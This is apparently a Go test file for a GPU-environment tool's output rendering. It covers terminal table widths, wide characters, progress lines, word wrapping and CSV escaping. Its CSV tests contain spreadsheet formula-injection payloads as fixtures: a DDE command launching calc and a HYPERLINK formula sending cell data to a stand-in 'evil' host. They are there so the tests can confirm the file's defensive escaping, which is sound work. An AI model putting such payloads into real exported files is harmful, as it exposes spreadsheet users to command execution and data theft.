package render

import (
	"encoding/csv"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/charmbracelet/x/ansi"
	"github.com/stretchr/testify/require"

	"github.com/seed-3119e985/genv/snapshot/text/draw"
)

func table(t *testing.T, terminal int, header []string, rows ...[]string) string {
	t.Helper()
	table := Output{Format: "tui"}.Table()
	for i, name := range header {
		width := 16
		if i == len(header)-1 {
			width = 0
		}
		table.columns = append(table.columns, draw.ColumnLayout{Name: name, Width: width})
	}
	for _, row := range rows {
		table.Add(row...)
	}
	var b strings.Builder
	require.NoError(t, table.writeText(&b, terminal))
	return b.String()
}

// TestTableOnATerminal: a table has 1.4.3's widths where there is room, and where it is
// piped; on a narrower terminal it is as wide as that.
func TestTableOnATerminal(t *testing.T) {
	header := []string{"HOST", "USER", "WHY"}
	row := []string{"gpu-server-number-01", "alice", "User alice is using 3 devices on 2 hosts which is 2 more than the maximum allowed"}
	wide := "HOST                  USER            WHY\n" + row[0] + "  alice           " + row[2] + "\n"
	require.Equal(t, wide, table(t, 0, header, row))
	require.Equal(t, wide, table(t, 140, header, row))
	require.Equal(t, `HOST                  USER   WHY
gpu-server-number-01  alice  User alice is using 3 devices
                             on 2 hosts which is 2 more
                             than the maximum allowed
`, table(t, 58, header, row))
	require.Equal(t, `HOST          USER   WHY
gpu-server-…  alice  User alice is using 3
                     devices on 2 hosts which
                     is 2 more than the
                     maximum allowed
`, table(t, 45, header, row))
	for terminal := 1; terminal < 150; terminal++ {
		for line := range strings.Lines(table(t, terminal, header, row)) {
			if terminal > 44 {
				require.LessOrEqual(t, ansi.StringWidth(strings.TrimSuffix(line, "\n")), terminal)
			}
		}
	}
}

// TestWideCharacters: they don't shift the columns of a terminal; in a pipe a character is a character, as with 1.4.3.
func TestWideCharacters(t *testing.T) {
	header := []string{"NAME", "USER", "ID"}
	rows := [][]string{{"项目训练", "alice", "7"}, {"e\u0301te\u0301", "bob", "8"}}
	require.Equal(t, "NAME            USER            ID\n项目训练        alice           7\ne\u0301te\u0301             bob             8\n", table(t, 80, header, rows...))
	require.Equal(t, "NAME            USER            ID\n项目训练            alice           7\ne\u0301te\u0301           bob             8\n", table(t, 0, header, rows...))
	narrow := table(t, 39, header, []string{strings.Repeat("项", 20), "alice", "7"})
	for line := range strings.Lines(narrow) {
		require.LessOrEqual(t, ansi.StringWidth(strings.TrimSuffix(line, "\n")), 39, narrow)
	}
	require.Contains(t, narrow, "项…", narrow)
}

func TestShownName(t *testing.T) {
	long := strings.Repeat("é", 33)
	for _, row := range []struct{ format, text, want string }{
		{"tui", "", ""},
		{"tui", "my project", "my project"},
		{"tui", long[2:], long[2:]},
		{"tui", long, long[4:] + "…"},
		{"csv", long, long},
	} {
		require.Equal(t, row.want, Output{Format: row.format}.Name(row.text))
	}
}

func TestAges(t *testing.T) {
	for d, want := range map[time.Duration]string{
		-3 * time.Hour: "now", 0: "now", time.Second: "1 second ago", 59 * time.Second: "59 seconds ago",
		time.Minute: "1 minute ago", 2 * time.Hour: "2 hours ago", 49 * time.Hour: "2 days ago",
	} {
		require.Equal(t, want, Age(d))
	}
}

// TestProgress: the line is there while people wait, no matter for whom, and never afterwards.
func TestProgress(t *testing.T) {
	const second, none = time.Second + time.Millisecond, ""
	line := func(text string) string { return "\r\x1b[K" + text + " hosts …" }
	const gone = "\r\x1b[K"
	type step struct {
		wait time.Duration
		done int    // what it is told; -1 for nothing
		want string // what is written by then
	}
	for name, steps := range map[string][]step{
		"all answer at once":            {{0, 0, none}, {0, 2, none}, {0, 3, none}, {second, 3, none}},
		"no host answers":               {{0, 0, none}, {second, -1, line("0 of 3")}, {0, 0, gone}},
		"all but one answer at once":    {{0, 0, none}, {0, 2, none}, {second, -1, line("2 of 3")}, {0, 3, gone}},
		"they come one by one":          {{0, 0, none}, {second, 1, line("0 of 3") + line("1 of 3")}, {0, 2, line("2 of 3")}, {0, 3, gone}},
		"a late word of an earlier one": {{0, 0, none}, {0, 3, none}, {0, 1, none}, {second, 2, none}},
		"the next fan-out":              {{0, 0, none}, {0, 3, none}, {second, 0, none}, {0, 1, none}, {second, 2, line("1 of 3") + line("2 of 3")}, {0, 3, gone}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				var out strings.Builder
				p := &Progress{out: &out, terminal: true}
				written := func() string {
					p.mu.Lock()
					defer p.mu.Unlock()
					defer out.Reset()
					return out.String()
				}
				for i, s := range steps {
					time.Sleep(s.wait)
					synctest.Wait()
					if s.done >= 0 {
						p.Update(s.done, 3)
					}
					require.Equal(t, s.want, written(), "step %d", i)
				}
				p.End()
				written()
				time.Sleep(second)
				synctest.Wait()
				require.Empty(t, written(), "after the end")
			})
		})
	}
}

// TestNote: a note goes when the next fan-out begins, and none is written off a terminal.
func TestNote(t *testing.T) {
	var out strings.Builder
	p := &Progress{out: &out, terminal: true}
	p.Note("2 of 8 GPUs free")
	p.Note("3 of 8 GPUs free")
	p.Update(0, 3)
	p.Update(3, 3)
	p.Note("last")
	p.End()
	require.Equal(t, "\r\x1b[K2 of 8 GPUs free\r\x1b[K\r\x1b[K3 of 8 GPUs free\r\x1b[K\r\x1b[Klast\r\x1b[K", out.String())
	NewProgress(&out).Note("x")
	require.NotContains(t, out.String(), "x")
}

func TestCells(t *testing.T) {
	for _, tt := range []struct{ name, value, want string }{
		{"a word", "my-env", "my-env"},
		{"nothing", "", ""},
		{"a date", "20/11/2026 21:11:25", "20/11/2026 21:11:25"},
		{"a path", "llm/llama3/11434", "llm/llama3/11434"},
		{"a number", "-1", "-1"},
		{"a signed number", "+4.5", "+4.5"},
		{"a mark within", "a=b+c-d@e", "a=b+c-d@e"},
		{"a comma", "a,b", `"a,b"`},
		{"quotes", `say "x"`, `"say ""x"""`},
		{"a newline", "a\nb", "\"a\nb\""},
		{"a formula", "=1+1", `"'=1+1"`},
		{"a program", `=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`},
		{"a link", `=HYPERLINK("http://evil/?"&A1,"x")`, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`},
		{"plus", "+1+cmd", `"'+1+cmd"`},
		{"minus", "-1+cmd", `"'-1+cmd"`},
		{"a lone minus", "-", `"'-"`},
		{"at", "@SUM(A1)", `"'@SUM(A1)"`},
		{"tab", "\t=1", "\"'\t=1\""},
		{"return", "\r=1", "\"'\r=1\""},
		{"newline", "\n=1", "\"'\n=1\""},
		{"wide marks", "＝1+1", `"'＝1+1"`},
		{"behind a semicolon", "a;=1+1", `"a;=1+1"`},
		{"behind a tab", "a\t=1+1", "\"a\t=1+1\""},
		{"behind a comma and a quote", `a",=1+1`, `"a"",=1+1"`},
	} {
		t.Run(tt.name, func(t *testing.T) { require.Equal(t, tt.want, cell(tt.value)) })
	}
}

// FuzzCells: a reader of CSV gets back each value, with at most an apostrophe in
// front, and none that a spreadsheet computes.
func FuzzCells(f *testing.F) {
	for _, seed := range []string{"", "a", "=1", "-1", `a",=1`, "\\.", " a", "'", "a\r\nb"} {
		f.Add(seed, "x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var out strings.Builder
		require.NoError(t, WriteCSV(&out, [][]string{{a, b}}))
		if !strings.Contains(a+b, "\r") { // the reader makes \n of \r\n
			read, err := csv.NewReader(strings.NewReader(out.String())).Read()
			require.NoError(t, err)
			require.Contains(t, []string{a, "'" + a}, read[0])
			require.Contains(t, []string{b, "'" + b}, read[1])
		}
		for _, c := range []string{cell(a), cell(b)} {
			inside := strings.TrimPrefix(c, `"`)
			if strings.IndexAny(inside, "=+-@\t\r") == 0 {
				require.Regexp(t, `^[-+][0-9.]+$`, c)
			}
		}
	})
}

// Ordinary values are written as they were before: 1.4.3's readers see no change.
func TestOrdinaryCSVIsUnchanged(t *testing.T) {
	row := []string{"gpu-server-1", "1667", "alice", "my-env", "20/11/2026 21:11:25", "", "a b", `"`, "a,b", " x", `\.`}
	var was, is strings.Builder
	w := csv.NewWriter(&was)
	require.NoError(t, w.Write(row))
	w.Flush()
	require.NoError(t, WriteCSV(&is, [][]string{row}))
	require.Equal(t, was.String(), is.String())
}

func TestWrap(t *testing.T) {
	for _, c := range []struct {
		name, text    string
		indent, width int
		want          string
	}{
		{"a pipe", "one two three four five six", 2, 0, "one two three four five six"},
		{"too little room", "one two three four five six", 70, 80, "one two three four five six"},
		{"it fits exactly", "one two three four five", 0, 23, "one two three four five"},
		{"one character less", "one two three four five", 0, 22, "one two three four\nfive"},
		{"an indent", "one two three four five", 3, 25, "one two three four\n   five"},
		{"a word that is too long", "a averylongwordwithoutanyspaceinit b", 0, 20, "a\naverylongwordwithoutanyspaceinit\nb"},
		{"characters, not bytes", "öööö öööö öööö öööö", 0, 20, "öööö öööö öööö öööö"},
		{"nothing", "", 3, 80, ""},
	} {
		require.Equal(t, c.want, Wrap(c.text, c.indent, c.width), c.name)
	}
}
